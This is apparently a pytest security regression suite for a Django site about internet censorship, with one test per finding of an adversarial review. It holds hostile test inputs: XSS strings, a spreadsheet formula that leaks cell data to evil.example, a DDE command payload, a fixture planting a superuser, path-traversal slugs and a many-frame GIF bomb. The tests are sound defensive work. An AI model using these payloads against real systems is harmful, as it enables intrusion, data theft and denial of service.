"""Each boundary of the threat model (README, "Threat model"), attacked as it was found open.

One test (or a few) per finding of the adversarial review of 8fa2aea; each failed there. The
Markdown renderer's own attack (quadratic headings) is in test_markdown_work.py, which measures
work rather than time.
"""

import io
import json
import os
import resource
import shutil
import signal
import subprocess
import sys
import time
import xml.etree.ElementTree as ET
import zipfile
from pathlib import Path

import pytest
from django.conf import settings
from django.core.cache import caches
from django.core.management import CommandError, call_command
from django.db import IntegrityError, connection, transaction
from django.urls import reverse

from countries.cache import content_version
from countries.history import record_revisions
from countries.models import BlockedSite, Country, Source
from countries.opendata.export import ExportError, fixture_files, write_fixture_files

from .factories import CountryFactory, SiteFactory, SourceFactory
from .forms import read_form
from .helpers import fetch, free_port, manage, production_environment, start_gunicorn, wait_until_up

pytestmark = pytest.mark.django_db

ATOM = "{http://www.w3.org/2005/Atom}"
HOSTILE = '<img src=x onerror="alert(1)"><script>alert(2)</script>'


@pytest.fixture
def database_cache(settings):
    """The production default: pages and fragments in the database's cache table."""
    settings.CACHES = {
        **settings.CACHES,
        "default": {
            "BACKEND": "django.core.cache.backends.db.DatabaseCache",
            "LOCATION": "netfree_cache",
            "OPTIONS": {"MAX_ENTRIES": 20_000},
        },
    }
    caches["default"].clear()
    return caches["default"]


def cache_rows():
    with connection.cursor() as cursor:
        cursor.execute("SELECT COUNT(*) FROM netfree_cache")
        return cursor.fetchone()[0]


# 2. Feeds carry editor text as text --------------------------------------------------------------


def test_feeds_never_carry_editor_markup_as_html(client):
    country = CountryFactory(summary=f"{HOSTILE} is what the summary says.")
    site = SiteFactory(country=country, name="Site")
    record_revisions([country], "Added.")
    site.name = HOSTILE
    site.save()
    record_revisions([country], "Renamed.")

    atom = ET.fromstring(client.get("/countries/testland/changes.atom").content)
    # Feed readers render these as HTML: after XML parsing no tag may be left in them.
    html_texts = [e.text or "" for e in atom.iter(f"{ATOM}summary")]
    assert html_texts and not any("<img" in t or "<script" in t for t in html_texts)
    assert atom.find(f"{ATOM}subtitle").get("type", "text") == "text"
    rss = ET.fromstring(client.get("/feeds/updates.rss").content)
    descriptions = [item.find("description").text or "" for item in rss.iter("item")]
    assert descriptions and not any("<img" in t or "<script" in t for t in descriptions)
    site_atom = ET.fromstring(client.get("/feeds/updates.atom").content)
    assert not any("<img" in (e.text or "") for e in site_atom.iter(f"{ATOM}summary"))


# 3. What changes a rendering is in its key, or not trusted ---------------------------------------


def test_a_script_prefix_or_scheme_from_one_request_never_reaches_the_next_reader(
    client, kazakhstan
):
    url = kazakhstan.get_absolute_url()
    poisoned = client.get(url, SCRIPT_NAME="/evil-prefix", HTTP_X_FORWARDED_PROTO="https")
    assert poisoned.status_code == 200
    for path in [url, "/", "/robots.txt", "/api/v1/countries/kazakhstan/"]:
        client.get(path, SCRIPT_NAME="/evil-prefix", secure=True)
        plain = client.get(path).content.decode()
        assert "/evil-prefix" not in plain, path
        assert "https://testserver" not in plain, path


@pytest.fixture(scope="module")
def production_server(tmp_path_factory, django_db_blocker):
    """gunicorn with the production configuration on a database of its own."""
    folder = tmp_path_factory.mktemp("production")
    env = production_environment(f"sqlite:///{folder / 'db.sqlite3'}")
    with django_db_blocker.unblock():
        manage(env, "migrate", "-v0")
        manage(env, "load_initial_data", "-v0")
    port = free_port()
    server = start_gunicorn(env, port)
    try:
        wait_until_up(f"http://127.0.0.1:{port}")
        yield f"http://127.0.0.1:{port}"
    finally:
        server.terminate()
        server.wait(timeout=20)


def test_gunicorn_takes_neither_scheme_nor_prefix_from_a_client(production_server):
    """On the loopback, as a local client (or a proxy without DJANGO_BEHIND_PROXY) would."""
    page = f"{production_server}/countries/kazakhstan/"
    poison = {"X-Forwarded-Proto": "https", "SCRIPT_NAME": "/evil-prefix"}
    for _ in range(2):
        fetch(page, headers=poison)
        fetch(f"{production_server}/", headers=poison)
    plain = fetch(page)
    assert f'<link rel="canonical" href="{page}">' in plain
    assert "/evil-prefix" not in plain and "/evil-prefix" not in fetch(f"{production_server}/")
    assert "https://127.0.0.1" not in fetch(f"{production_server}/robots.txt")


# 4. No client can fill the shared cache or evict the version -------------------------------------


def test_variants_of_one_page_make_no_new_shared_cache_rows(client, kazakhstan, database_cache):
    client.get("/countries/kazakhstan/")
    client.get("/blocked-sites/LiveJournal/")
    rows = cache_rows()
    page = "/countries/kazakhstan/"
    for query in ["?", "?&", "?&&"]:
        assert client.get(page + query).status_code == 200
    for port in range(1, 30):
        assert client.get(page, HTTP_HOST=f"testserver:{port}").status_code == 200
    for spelling in ["livejournal", "LIVEJOURNAL", "liveJournal"]:
        response = client.get(f"/blocked-sites/{spelling}/")
        assert response.status_code == 301
        assert response["Location"] == "/blocked-sites/LiveJournal/"
    assert cache_rows() == rows


def test_a_full_cache_table_never_loses_the_content_version(client, kazakhstan, settings):
    settings.CACHES = {
        **settings.CACHES,
        "default": {
            "BACKEND": "django.core.cache.backends.db.DatabaseCache",
            "LOCATION": "netfree_cache",
            "OPTIONS": {"MAX_ENTRIES": 10, "CULL_FREQUENCY": 2},
        },
    }
    cache = caches["default"]
    version = content_version()
    for n in range(50):  # well past MAX_ENTRIES: culling runs again and again
        cache.set(f"netfree:filler:{n}", "x")
    assert content_version() == version
    kazakhstan.summary = "Changed."
    kazakhstan.save()
    assert content_version() > version


# 5. CSV cells that a spreadsheet would run -------------------------------------------------------


def test_csv_cells_never_start_a_formula_and_the_data_stays_exact(client, tmp_path):
    formula = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
    country = CountryFactory(summary="@SUM(1+1)")
    SiteFactory(country=country, name="+cmd|' /C calc'!A0", notes=formula)
    SiteFactory(country=country, name="-2+3", notes="\tTabbed")
    sites = b"".join(client.get("/data/csv/blocked-sites.csv").streaming_content).decode()
    assert f"'{formula}" in sites.replace('""', '"')
    assert "'+cmd|" in sites and "'-2+3" in sites and "'\tTabbed" in sites
    countries = b"".join(client.get("/data/csv/countries.csv").streaming_content).decode()
    assert "'@SUM(1+1)" in countries
    # The JSON and the fixtures keep the editor's text exactly.
    data = json.loads(b"".join(client.get("/data/netfree.json").streaming_content))
    notes = {o["fields"]["notes_en"] for o in data if o["model"] == "countries.blockedsite"}
    assert formula in notes
    write_fixture_files(tmp_path, fixture_files())
    assert json.dumps(formula) in (tmp_path / "testland.json").read_text(encoding="utf-8")


# 6. Files that would exhaust memory --------------------------------------------------------------


def test_a_deeply_nested_fixture_is_refused_in_bounded_memory(tmp_path):
    depth = 200_000  # 400 KB; the parser took 23 GB to read it
    crafted = tmp_path / "nested.json"
    crafted.write_text('[{"model": "countries.source", "fields": {"name": ' + "[" * depth
                       + "]" * depth + "}}]")  # fmt: skip
    limit = 1024**3  # a child that tried to read it as before would die here, not the machine

    def cap_memory():
        resource.setrlimit(resource.RLIMIT_AS, (limit, limit))

    before = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
    result = subprocess.run(
        [sys.executable, "manage.py", "import_fixtures", str(crafted), "--dry-run"],
        cwd=settings.BASE_DIR,
        env={**os.environ, "DJANGO_DEBUG": "1"},
        capture_output=True,
        text=True,
        timeout=120,
        preexec_fn=cap_memory,  # noqa: PLW1509 - a resource limit, before exec
    )
    assert result.returncode == 1
    assert "nested deeper than 8 levels" in result.stderr
    peak_kib = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
    assert max(peak_kib, before) < 400 * 1024  # about what Django itself needs


def test_an_object_with_too_many_values_is_refused(tmp_path):
    crafted = tmp_path / "wide.json"
    clauses = json.dumps(["x"] * 30_000)
    crafted.write_text(
        '[{"model": "countries.constitutionalarticle", "fields": {"clauses": ' + clauses + "}}]"
    )
    with pytest.raises(CommandError, match="more than 20000 values"):
        call_command("import_fixtures", str(crafted), stdout=io.StringIO())


# 7. A crafted fixture, by every loading path -----------------------------------------------------


CRAFTED = [
    {
        "model": "auth.user",
        "fields": {
            "username": "intruder",
            "password": "pbkdf2_sha256$1$x$y",
            "is_superuser": True,
            "is_staff": True,
        },
    },  # fmt: skip
    {"model": "countries.source", "fields": {"name": "Evil", "url": "javascript:alert(1)"}},
    {
        "model": "countries.country",
        "fields": {
            "name": "Outside",
            "slug": "../../../../outside-the-folder",
            "iso_code": "UZ",
            "region": "143",
            "summary": "S.",
        },
    },  # fmt: skip
]


@pytest.fixture
def crafted_fixture(tmp_path):
    path = tmp_path / "crafted.json"
    path.write_text(json.dumps(CRAFTED))
    return path


def nothing_was_loaded(django_user_model):
    assert not django_user_model.objects.filter(username="intruder").exists()
    assert not Source.objects.filter(name="Evil").exists()
    assert not Country.objects.filter(name="Outside").exists()


def test_import_fixtures_refuses_the_crafted_fixture(crafted_fixture, django_user_model):
    with pytest.raises(CommandError) as refused:
        call_command("import_fixtures", str(crafted_fixture), stdout=io.StringIO())
    message = str(refused.value)
    assert "unknown model “auth.user”" in message
    assert "url" in message and "slug" in message
    nothing_was_loaded(django_user_model)


def test_loaddata_refuses_the_crafted_fixture(crafted_fixture, django_user_model):
    with pytest.raises(CommandError, match="auth.User is not content"):
        call_command("loaddata", str(crafted_fixture), verbosity=0)
    nothing_was_loaded(django_user_model)
    only_content = crafted_fixture.with_name("content.json")
    only_content.write_text(json.dumps(CRAFTED[1:]))
    with pytest.raises(CommandError, match="Enter a valid URL|http"):
        call_command("loaddata", str(only_content), verbosity=0)
    nothing_was_loaded(django_user_model)


def test_make_run_refuses_the_crafted_fixture(crafted_fixture, settings, django_user_model):
    settings.FIXTURE_DIRS = [crafted_fixture.parent]
    with pytest.raises(CommandError, match="Nothing was loaded"):
        call_command("load_initial_data", verbosity=0)
    nothing_was_loaded(django_user_model)


def test_the_database_refuses_script_links_whatever_the_path():
    with pytest.raises(IntegrityError), transaction.atomic():
        Source.objects.create(name="Evil", url="javascript:alert(1)")
    country = CountryFactory()
    with pytest.raises(IntegrityError), transaction.atomic():
        BlockedSite.objects.create(
            country=country, name="Evil", action="blocked", url="JavaScript:alert(1)"
        )
    SourceFactory(name="Fine", url="HTTPS://example.org/")
    SiteFactory(country=country, name="Bare domain", url="example.org")


def test_exports_never_write_outside_their_folder(client, tmp_path):
    country = CountryFactory()
    Country.objects.filter(pk=country.pk).update(slug="../../outside")  # as raw SQL could
    with pytest.raises(ExportError, match="is not a slug"):
        write_fixture_files(tmp_path / "out", fixture_files())
    assert not (tmp_path / "outside.json").exists()
    with pytest.raises(CommandError, match="is not a slug"):
        call_command("export_fixtures", "--output", str(tmp_path / "out"), stdout=io.StringIO())
    client.raise_request_exception = False  # a 500 says the data needs mending: fine
    response = client.get("/data/netfree-fixtures.zip")
    assert response.status_code == 500 or all(
        ".." not in name
        for name in zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content))).namelist()
    )


# 8. Bodies refused before anything reads them ----------------------------------------------------


class UnreadBody:
    """A request body that records whether anything read it."""

    def __init__(self):
        self.read_from = False

    def read(self, *args):
        self.read_from = True
        return b""

    def readline(self, *args):
        self.read_from = True
        return b""


@pytest.mark.parametrize("path", ["/markdownx/upload/", "/markdownx/markdownify/", "/search/"])
def test_an_anonymous_oversized_body_is_refused_unread(client, path):
    body = UnreadBody()
    response = client.generic(
        "POST",
        path,
        **{
            "wsgi.input": body,
            "CONTENT_LENGTH": str(200 * 1024 * 1024),
            "CONTENT_TYPE": "multipart/form-data; boundary=x",
        },
    )
    assert response.status_code in (403, 413)
    assert not body.read_from


def test_an_editors_oversized_upload_is_refused_unread_with_a_message(editor_client):
    body = UnreadBody()
    response = editor_client.generic(
        "POST",
        "/markdownx/upload/",
        **{"wsgi.input": body, "CONTENT_LENGTH": str(6 * 1024 * 1024),
           "CONTENT_TYPE": "multipart/form-data; boundary=x"},
    )  # fmt: skip
    assert response.status_code == 413
    assert "larger than the" in response.json()["error"]
    assert not body.read_from


def many_frames_gif(frames):
    """A GIF of `frames` 1×1 frames (about 23 bytes each)."""
    header = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff"
    loop = b"!\xff\x0bNETSCAPE2.0\x03\x01\x00\x00\x00"
    control = b"!\xf9\x04\x00\x01\x00\x00\x00"  # 10 ms a frame
    image = b",\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00"  # one pixel
    frame = control + image
    return header + loop + frame * frames + b";"


def test_an_animation_of_countless_tiny_frames_is_refused_cheaply(
    editor_client, settings, tmp_path
):
    import cProfile
    import pstats

    settings.MEDIA_ROOT = tmp_path
    gif = many_frames_gif(210_000)  # 4.8 MB: it cost 29 s and 818 MB
    upload = io.BytesIO(gif)
    upload.name = "frames.gif"
    profile = cProfile.Profile()
    profile.enable()
    response = editor_client.post("/markdownx/upload/", {"image": upload})
    profile.disable()
    assert response.status_code == 400
    assert "more than 500 frames" in response.json()["error"]
    assert pstats.Stats(profile).total_calls < 3_000_000  # reading 501 frames, not 210,000
    assert not list(tmp_path.rglob("*.gif"))


# 9. The cache server is a cache, not a dependency ------------------------------------------------


@pytest.fixture
def redis_server(tmp_path):
    """A redis-server of its own; `make test` installs it (scripts/run-tests)."""
    if shutil.which("redis-server") is None:
        pytest.fail("redis-server is missing: run `make test`, which installs it with apt-get")
    port = free_port()
    process = subprocess.Popen(
        ["redis-server", "--port", str(port), "--bind", "127.0.0.1", "--dir", str(tmp_path),
         "--save", "", "--appendonly", "no"],
        stdout=subprocess.DEVNULL,
    )  # fmt: skip
    deadline = time.monotonic() + 10
    import redis

    client = redis.Redis(port=port)
    while True:
        try:
            client.ping()
            break
        except redis.ConnectionError:
            assert time.monotonic() < deadline, "redis-server did not start"
            time.sleep(0.05)
    yield process, port
    process.send_signal(signal.SIGCONT)
    process.terminate()
    process.wait(timeout=10)


@pytest.fixture
def redis_cache(settings, redis_server):
    _process, port = redis_server
    settings.CACHES = {
        **settings.CACHES,
        "default": {"BACKEND": "netfree.redis_cache.RedisCache",
                    "LOCATION": f"redis://127.0.0.1:{port}/0"},
    }  # fmt: skip
    yield redis_server


def edit_summary(client, country, text):
    url = reverse("admin:countries_country_change", args=[country.pk])
    form = read_form(client.get(url).content.decode(), "country_form")
    return client.post(url, {**form, "summary_en": text})


def test_readers_and_editors_carry_on_while_redis_is_hung_and_see_no_stale_page_after(
    client, admin_client, kazakhstan, redis_cache
):
    process, _port = redis_cache
    page = kazakhstan.get_absolute_url()
    assert "censorship of opposition" in client.get(page).content.decode()
    caches["rendered"].clear()  # other processes have only Redis: so has this one now

    process.send_signal(signal.SIGSTOP)  # hung: accepts connections, answers nothing
    try:
        started = time.monotonic()
        for _ in range(5):
            assert client.get(page).status_code == 200
        assert edit_summary(admin_client, kazakhstan, "Saved while Redis hung.").status_code == 302
        assert "Saved while Redis hung." in client.get(page).content.decode()
        # One short timeout, then Redis is not asked for a while: readers do not wait on it.
        assert time.monotonic() - started < 5
    finally:
        process.send_signal(signal.SIGCONT)
    caches["rendered"].clear()
    time.sleep(0.1)
    # Redis is back holding the page from before the edit: it is never served as current.
    from netfree import redis_cache as module

    monkey_resume = module.FAILURE_PAUSE
    try:
        module.FAILURE_PAUSE = 0
        caches["default"]._cache._paused_until = 0
    finally:
        module.FAILURE_PAUSE = monkey_resume
    assert "Saved while Redis hung." in client.get(page).content.decode()


def test_readers_and_editors_carry_on_while_redis_is_down(
    client, admin_client, kazakhstan, redis_cache
):
    process, _port = redis_cache
    page = kazakhstan.get_absolute_url()
    client.get(page)
    process.terminate()
    process.wait(timeout=10)
    caches["rendered"].clear()
    assert client.get(page).status_code == 200
    assert client.get("/").status_code == 200
    assert edit_summary(admin_client, kazakhstan, "Saved while Redis was down.").status_code == 302
    assert "Saved while Redis was down." in client.get(page).content.decode()


# 10. What is audited is what is installed --------------------------------------------------------


def test_every_pinned_requirement_carries_its_hash():
    for name in ["requirements.txt", "requirements-dev.txt"]:
        lines = Path(settings.BASE_DIR, name).read_text().replace("\\\n", " ").splitlines()
        pins = [line for line in lines if line.strip() and not line.startswith(("#", "-r"))]
        assert pins, name
        for line in pins:
            assert "==" in line and "--hash=sha256:" in line, f"{name}: {line}"
